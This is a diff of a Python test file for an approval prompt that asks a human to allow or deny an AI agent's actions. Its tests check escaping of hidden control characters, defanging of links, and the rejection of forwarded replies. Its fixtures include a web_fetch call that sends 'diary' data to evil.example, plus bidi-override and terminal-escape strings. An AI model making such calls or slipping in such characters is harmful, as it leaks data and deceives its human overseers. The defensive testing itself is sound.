@@ -99,11 +99,27 @@ def test_the_message_shows_every_byte_and_what_to_answer() -> None:
         "shell", '{"argv":["a\u202eb"]}', "it may\nhurt", "Runs a\x1b[2J.", "a, 1 day"
     )
     told = in_words(hidden)
-    assert "\\u202e" in told
+    assert "Runs a<U+001B>[2J." in told
+    assert "a<U+202E>b" in told
+    assert "it may<U+000A>hurt" in told
     assert "\x1b" not in told
     assert f"`yes {hidden.question_id}` or `no {hidden.question_id}`" in told
     assert f"`always {hidden.question_id}` would be: a, 1 day." in told
     assert "always" not in in_words(LAMP)
+
+
+def test_an_address_in_a_question_is_no_link_before_it_is_answered() -> None:
+    fetch = Question("web_fetch", '{"url":"https://evil.example/?d=diary"}', "it sends something")
+    assert 'web_fetch {"url":"https[:]//evil[.]example/?d=diary"}' in in_words(fetch)
+
+
+async def test_what_was_forwarded_is_no_answer() -> None:
+    questions = OpenQuestions()
+    task = await waiting(questions, PUMP)
+    said = replace(ASKED, text=f"yes {PUMP.question_id}")
+    assert not questions.answer(replace(said, is_forwarded=True))
+    assert questions.answer(said)
+    assert await task is Answer.YES
 
 
 def test_ids_are_short_plain_and_hardly_ever_the_same() -> None:
